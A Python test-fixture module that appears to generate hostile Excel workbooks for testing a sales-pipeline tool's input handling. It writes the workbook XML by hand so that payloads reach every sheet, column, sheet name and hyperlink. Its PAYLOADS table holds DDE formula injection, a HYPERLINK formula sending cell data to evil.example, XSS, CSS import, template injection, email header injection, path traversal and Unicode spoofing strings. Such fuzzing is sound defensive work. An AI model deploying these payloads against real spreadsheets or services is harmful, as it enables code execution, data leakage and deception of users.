"""Workbooks whose texts are made to do harm where they are shown: written part by part, as no program would.

Openpyxl refuses what Excel would not write, and this must not be refused before the program has seen it.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, timedelta
from io import BytesIO
from itertools import cycle, islice
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"

UNWRITABLE = re.compile("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]")
"""What XML cannot hold, and a workbook writes as _x0000_."""

TURNED, MARKS, LONG = "\u202e", "Ze" + "\u0301" * 10_000 + "bra", "long " * 200_000 + "<script>end()</script>"

PAYLOADS: Mapping[str, str] = {
    "formula": "=cmd|'/C calc'!A0",
    "link formula": '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "line formula": "\n=1+1",
    "wide formula": "＝1+1",
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)",
    "template": "{{ 7*7 }}{% raw %}{# no #}${7*7}",
    "pattern": "{name} {0.__class__} %s %(n)s",
    "javascript": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "file": "file:///etc/passwd",
    "markdown": "[Open](javascript:alert(1))",
    "parent": "../x",
    "windows parent": "..\\x",
    "device": "CON",
    "slash": "a/b",
    "dots": "..",
    "nul": "nul\0byte",
    "header": "Dana\r\nBcc: x@evil.example",
    "turned round": "invoice\u202efdp.exe",
    "isolates": "\u2066\u2067one\u2069 \u202atwo\u202c \u202bthree\u202d",
    "separators": "one\u2028two\u2029three\u0085four\x0bfive",
    "zero width": "Al\u200bp\u2060h\ufeffa \u00adBe\u180eta",
    "tags": "plain\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "fillers": "\u3164\u115f\uffa0",
    "surrogate": "half\ud83dpair",
    "no character": "end\uffff\ufdd0",
    "marks": MARKS,
    "terminal": "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x9b2J",
    "terminal markup": "[link=file:///etc/passwd]x[/link][/nothing][bold red]:smile:",
    "section": "]]><b>",
    "newest": "<!-- newest --><i>",
    "archived": "<!-- archived --><i>",
    "comment": "<!-- <script> -->",
    "style": '"; } body { display: none } </style><script>alert(1)</script>',
    "import": "\\22; @import url(https://evil.example/x.css); content: \\",
    "entity": "&lt;script&gt;&#60;b&#62;&nbsp;&copy",
    "text direction": "<bdo dir=rtl>",
    "address": '"Dana Ruiz" <dana@evil.example>, x@evil.example',
    "long": LONG,
}

REAL_NAMES = (
    "شركة الأفق للتجارة",
    "רותם כהן",
    "می‌خواهم",  # Persian: the letters stay apart by U+200C
    "क्‍ष",  # Devanagari: U+200D keeps the half letter
    "ภูมิพลอดุลยเดช",
    "ⁿÅngström & Søn",
    "👩‍💻 Studio",
    "Müller-Lüdenscheidt",
)
"""Names that the same rules must leave as they are."""

REPS = (
    f"{PAYLOADS['formula']} {PAYLOADS['script']} {PAYLOADS['template']}",
    PAYLOADS["parent"],
    PAYLOADS["device"],
    f"{PAYLOADS['turned round']} {PAYLOADS['terminal']} {PAYLOADS['terminal markup']} {PAYLOADS['header']}",
    f"{PAYLOADS['style']} {PAYLOADS['newest']} {PAYLOADS['image']}",
)
"""Each with several payloads, as a card takes time to print."""

ADDRESSES = (
    "first@northwind.example.com",
    "second@northwind.example.com",
    "third@northwind.example.com",
    "fourth@northwind.example.com\r\nBcc: x@evil.example",
    '"fifth@northwind.example.com" <x@evil.example>',
)
"""One for each rep; the last two are none that anything is sent to."""

MANAGER = "manager@northwind.example.com"

GATES = ("Kickoff <script>gate()</script> =1", "{{ gate }} </style>\u202e@2", "Contract +3 [/x]")
TEAM = "=Team <script>team()</script> \u202e{{ team }} \x1b[2J <!-- archived --> [/team]"
TODAY = date(2026, 11, 18)

Value = str | float | date | None
Rows = Sequence[Sequence[Value]]


def hostile_sheets(as_of: date = TODAY, payloads: Iterable[str] = tuple(PAYLOADS.values())) -> dict[str, Rows]:
    """Every sheet and every column of texts that a workbook may have, each row with a payload in all of them.

    Some have a payload for a date, a value, a track or a currency too, and so errors for every rep.
    """
    said = list(payloads)
    return {
        "Opportunities": _opportunities(said, as_of, with_slips=True),
        "Milestones": [
            ("Track", "Order", "Milestone", "Agreed by both", "Evidence required"),
            *(("", n, gate, text, "yes") for n, (gate, text) in enumerate(zip(GATES, cycle(said), strict=False))),
        ],
        "Reps": [
            ("Rep", "Email", "Manager", "Manager email", "Annual target", "Average contract value"),
            *((rep, text, text, text, 600_000, 50_000) for rep, text in zip(REPS, cycle(said), strict=False)),
        ],
        "Settings": [
            ("Setting", "Value"),
            *(("Team", TEAM), ("As of", as_of), ("Manager", said[0]), ("Manager email", said[-1])),
            *((text, text) for text in said),
        ],
        "Time off": [
            ("Rep", "From", "To", "Reason"),
            *((text, as_of, as_of, text) for text in said),
            *((rep, as_of, as_of, "=1+1") for rep in REPS),
        ],
        "Rates": [("Currency", "Rate"), *((text, 1.5) for text in said)],
        "Milestone log": [
            ("Opportunity ID", "Milestone", "Completed", "Evidence", "Recorded by"),
            *((text, GATES[0], as_of, text, text) for text in said),
        ],
        "Columns": [("Sheet", "Field", "Your header"), *((text, text, text) for text in said)],
    }


def hostile_sheets_to_send(as_of: date = TODAY) -> dict[str, Rows]:
    """The same without errors for any rep, so that their cards are sent to those who have an address."""
    said = list(PAYLOADS.values())
    sheets = hostile_sheets(as_of) | {"Opportunities": _opportunities(said, as_of, with_slips=False)}
    head, *reps = sheets["Reps"]
    addressed = [(rep, address, *rest) for (rep, _, *rest), address in zip(reps, ADDRESSES, strict=True)]
    settings = [row for row in sheets["Settings"] if row[0] != "Manager email"]
    manager = ("Manager email", MANAGER)
    return sheets | {"Reps": [head, *addressed], "Settings": [settings[0], manager, *settings[1:]]}


def with_sheets_so_named(sheets: Mapping[str, Rows]) -> dict[str, Rows]:
    """The sheets and one named after each payload, which no spreadsheet program would write."""
    return {**sheets, **{f"{text} notes"[:60]: [("Opportunity", "Rep"), (text, text)] for text in PAYLOADS.values()}}


def _opportunities(said: Sequence[str], as_of: date, *, with_slips: bool) -> Rows:
    headers = ("ID", "Opportunity", "Account", "Rep", "Track", "Source", "Lost reason", "Notes", "Outcome", "Value",
               "Currency", "Created", "Closed")  # fmt: skip
    own = tuple(header for gate in GATES for header in (f"{gate} planned", gate, f"{gate} evidence"))
    make = _opportunity_with_slips if with_slips else _opportunity
    rows = [make(text, rep, n, as_of) for n, (text, rep) in enumerate(zip(said, cycle(REPS), strict=False))]
    names = [_opportunity(name, REPS[-1], 100 + n, as_of) for n, name in enumerate(REAL_NAMES)]
    return [(*headers, *own, *said), *rows, *names]


def _opportunity_with_slips(text: str, rep: str, number: int, as_of: date) -> Sequence[Value]:
    """A row whose ID may be that of another, and of which every few have a text for a value, a date and so on."""
    row = list(_opportunity(text, rep, number, as_of))
    row[0] = text
    for column, nth in SLIPS.items():
        if number % nth == 0:
            row[column] = text
    return row


SLIPS = {4: 6, 9: 5, 10: 11, 14: 7}
"""A column of Opportunities to how often it has a text that is none of a track, a value, a currency or a date."""


def _opportunity(text: str, rep: str, number: int, as_of: date) -> Sequence[Value]:
    """A row: every fourth is won, every fourth lost."""
    start = as_of - timedelta(days=60 + number)
    reached = [start + timedelta(days=7 * gate) for gate in range(number % 4)]
    outcome = "won" if len(reached) == len(GATES) else "lost" if number % 4 == 1 else ""
    entries: list[Value] = []
    for gate in range(len(GATES)):
        done = reached[gate] if gate < len(reached) else None
        entries += [as_of + timedelta(days=number % 9 - 4), done, text]
    closed = as_of if outcome == "lost" else None
    return (f"{text[:2_000]} {number}", text, text, rep, "", text, text, text, outcome or None, 10_000 + number, "",
            start, closed, *entries)  # fmt: skip


def write_hostile(path: Path, sheets: Mapping[str, Rows], links: Iterable[str] = tuple(PAYLOADS.values())) -> Path:
    """The sheets as a workbook file; the evidence on the first rows of the first sheet leads where `links` say."""
    listed, related, overrides, parts = "", "", "", {}
    for number, (name, rows) in enumerate(sheets.items(), start=1):
        listed += f'<sheet name={_attribute(name)} sheetId="{number}" r:id="rId{number}"/>'
        related += _related(number, "worksheet", f"worksheets/sheet{number}.xml")
        overrides += f'<Override PartName="/xl/worksheets/sheet{number}.xml" ContentType="{TYPES}.worksheet+xml"/>'
        parts[f"xl/worksheets/sheet{number}.xml"] = _sheet(rows, _hyperlinks(rows, links) if number == 1 else "")
    targets = islice(links, len(next(iter(sheets.values()))) - 1)
    outside = (_related(n, "hyperlink", text, mode="External") for n, text in enumerate(targets, start=1))
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{TYPES}.sheet.main+xml"/>{overrides}</Types>',
        )
        archive.writestr("_rels/.rels", _relations(_related(1, "officeDocument", "xl/workbook.xml")))
        book = f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}"><sheets>{listed}</sheets></workbook>'
        archive.writestr("xl/workbook.xml", book)
        archive.writestr("xl/_rels/workbook.xml.rels", _relations(related))
        archive.writestr("xl/worksheets/_rels/sheet1.xml.rels", _relations("".join(outside)))
        for part, content in parts.items():
            archive.writestr(part, content)
    path.write_bytes(written.getvalue())
    return path


def _relations(related: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}/relationships">{related}</Relationships>'


def _related(number: int, kind: str, target: str, mode: str = "") -> str:
    how = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="rId{number}" Type="{RELATIONSHIPS}/{kind}" Target={_attribute(target)}{how}/>'


def _hyperlinks(rows: Rows, links: Iterable[str]) -> str:
    column = next((place for place, header in enumerate(rows[0]) if str(header).endswith(" evidence")), 0)
    places = enumerate(islice(links, len(rows) - 1), start=1)
    return "".join(f'<hyperlink ref="{_letters(column)}{n + 1}" r:id="rId{n}"/>' for n, _ in places)


def _sheet(rows: Rows, links: str) -> str:
    cells = "".join(
        f'<row r="{number}">{"".join(_cell(f"{_letters(at)}{number}", value) for at, value in enumerate(row))}</row>'
        for number, row in enumerate(rows, start=1)
    )
    foot = f"<hyperlinks>{links}</hyperlinks>" if links else ""
    return f'<worksheet xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}"><sheetData>{cells}</sheetData>{foot}</worksheet>'


def _cell(reference: str, value: Value) -> str:
    if value is None or value == "":
        return ""
    if isinstance(value, str):
        return f'<c r="{reference}" t="inlineStr"><is><t xml:space="preserve">{escape(_written(value))}</t></is></c>'
    number = (value - date(1899, 12, 30)).days if isinstance(value, date) else value
    return f'<c r="{reference}"><v>{number}</v></c>'


def _written(text: str) -> str:
    return UNWRITABLE.sub(lambda found: f"_x{ord(found[0]):04X}_", text)


def _attribute(text: str) -> str:
    return quoteattr(_written(text[:2_000]))


def _letters(place: int) -> str:
    return _letters(place // 26 - 1) + _letters(place % 26) if place > 25 else chr(65 + place)
